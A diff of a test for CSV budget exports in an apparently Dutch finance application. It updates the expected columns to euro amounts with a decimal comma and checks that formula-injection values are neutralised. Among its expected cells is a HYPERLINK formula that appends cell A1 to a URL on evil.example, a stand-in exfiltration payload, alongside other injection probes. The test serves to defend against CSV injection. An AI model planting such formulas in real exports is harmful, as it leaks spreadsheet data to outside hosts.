@@ -432,12 +432,12 @@ describe('CSV exports', () => {
     }
     const res = await fetch(`${dev.url}/export/kwartaal/2026/3/begrotingsposten.csv`, { headers: { authorization: `Bearer ${tokens.regio}` } });
     expect(res.status).toBe(200);
-    const regels = (await res.text()).trim().split('\r\n');
-    expect(regels[0]).toBe('naam;productcategorieen;budgetCenten;gerealiseerdCenten;gerealiseerdJaarCenten;verplichtCenten;prognoseCenten;ruimteCenten');
+    const regels = (await res.text()).replace(/^\uFEFF/, '').trim().split('\r\n');
+    expect(regels[0]).toBe('naam;productcategorieen;productcategorieen_namen;budget_euro;gerealiseerd_euro;gerealiseerd_jaar_euro;verplicht_euro;prognose_euro;ruimte_euro');
     const cellen = regels.slice(1).map((r) => r.split(';'));
     expect(cellen.map((c) => c[0]).sort()).toEqual([`"'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"`, "'+31 6 12345678", "'-1000", "'@SUM(A1:A9)", "'\tTab"].sort());
-    // Amounts are numbers, not neutralised text.
-    expect(cellen.map((c) => c[2])).toEqual(['100000', '100000', '100000', '100000', '100000']);
-    expect(cellen.every((c) => c.slice(2).every((v) => /^-?\d+$/.test(v)))).toBe(true);
+    // Amounts are numbers in euros with a decimal comma, not neutralised text.
+    expect(cellen.map((c) => c[3])).toEqual(['1000,00', '1000,00', '1000,00', '1000,00', '1000,00']);
+    expect(cellen.every((c) => c.slice(3).every((v) => /^-?\d+,\d\d$/.test(v)))).toBe(true);
   });
 });
